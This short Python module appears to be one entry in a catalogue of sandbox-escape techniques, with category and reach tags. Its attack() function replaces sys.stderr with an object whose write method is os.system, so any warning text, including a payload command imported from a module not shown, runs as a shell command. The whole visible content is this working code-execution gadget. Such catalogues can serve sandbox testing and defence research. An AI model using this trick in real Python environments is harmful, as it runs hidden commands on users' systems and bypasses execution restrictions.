"""A C function is write() of what a warning is shown on."""
CATEGORY = "borrowed"
REACH = "run"

import os
import sys
import types

from . import payload

TEXT = f"\n{payload.COMMAND}\n"


def attack():
    vars(sys)["stderr"] = types.SimpleNamespace(write=os.system, flush=int)
